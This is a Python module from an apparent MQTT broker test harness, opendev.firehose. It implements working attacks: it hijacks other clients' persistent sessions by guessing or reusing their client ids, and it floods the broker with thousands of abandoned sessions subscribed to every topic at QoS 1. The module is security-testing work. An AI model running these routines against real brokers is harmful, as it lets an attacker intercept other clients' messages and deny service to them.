# SPDX-FileCopyrightText: the opendev.firehose authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attacks that take over sessions of other clients, or leave many sessions behind."""

from __future__ import annotations

import asyncio
import contextlib
import time

from .. import packets, wire
from ..attack import attack
from ..field import Field
from ..target import Listener
from .publishing import ways

GUESSES = (
    "{name}",
    "{name}-0",
    "{name}-1",
    "{name}1",
    "{name}_publisher",
    "publisher-{name}",
    "bridge-{name}",
    "{name}@firehose",
    "mosq-{name}",
    "relay",
    "bridge",
    "core",
    "publisher",
    "firehose",
    "firehose01",
    "firehose.core",
    "localhost",
    "mosquitto",
)


def has_session(connack: packets.Packet) -> bool:
    """Whether the broker accepted the client, and resumed an existing session."""
    return connack.body[:2] == b"\1\0"


async def connect_as(field: Field, listener: Listener, version: int, client_id: str, clean: bool) -> bool:
    """Whether the broker had a session for the client id."""
    connection = await field.insist(listener)
    try:
        await connection.send(packets.connect(version, client_id, clean=clean))
        field.tried += 1
        [*_others, answer] = await connection.until(packets.CONNACK)
        if answer.body[1]:
            return False
        # A client that reconnects with the same client id is disconnected again.
        await connection.send(packets.PINGREQ)
        await connection.until(13)
        return has_session(answer)
    finally:
        connection.vanish()


async def take(field: Field, client_id: str) -> None:
    """Take over an existing session, in each way, and leave none behind for the next attempt."""
    for listener, version in ways(field):
        field.through += await connect_as(field, listener, version, client_id, clean=False)
        await connect_as(field, listener, version, client_id, clean=True)


async def take_all(field: Field, client_ids: list[str]) -> None:
    async def go_on(client_id: str) -> None:
        with contextlib.suppress(*wire.FAILURES):
            await take(field, client_id)
            while field.left:
                await take(field, client_id)

    await asyncio.gather(*(go_on(client_id) for client_id in client_ids))


@attack("take over by a guess", forbidden=True, seconds=3, sources=16)
async def take_over_by_a_guess(field: Field) -> None:
    """Client ids that others might have chosen."""
    names = field.target.names
    await take_all(field, sorted({guess.format(name=name) for guess in GUESSES for name in names}))


@attack("take over by the client id", forbidden=True, seconds=3, sources=16)
async def take_over_by_the_client_id(field: Field) -> None:
    """The client ids of publishers, as if they were known."""
    await take_all(field, list(field.target.client_ids))


@attack("sessions that are left behind")
async def leave_sessions(field: Field) -> None:
    """Sessions with QoS 1 subscriptions, of clients that disconnect. `through` counts sessions that still exist."""

    async def leave(number: int) -> None:
        version, listener = (packets.V3, packets.V5)[number % 2], field.target.listeners[0]
        hello = packets.connect(version, f"left-{time.time()}-{number}", clean=False, expiry=2**32 - 1)
        field.tried += 1
        for _time in range(2):
            connection = await field.connect(listener)
            try:
                await connection.send(hello)
                [*_others, answer] = await connection.until(packets.CONNACK)
                field.through += has_session(answer)
                await connection.send(packets.subscribe(version, ["#"], qos=1))
                await connection.until(packets.SUBACK)
                await connection.send(packets.DISCONNECT)
            finally:
                connection.vanish()

    numbers = list(range(5000 if field.long else 300))
    await field.each(numbers, leave, again=False)
    await field.hold()
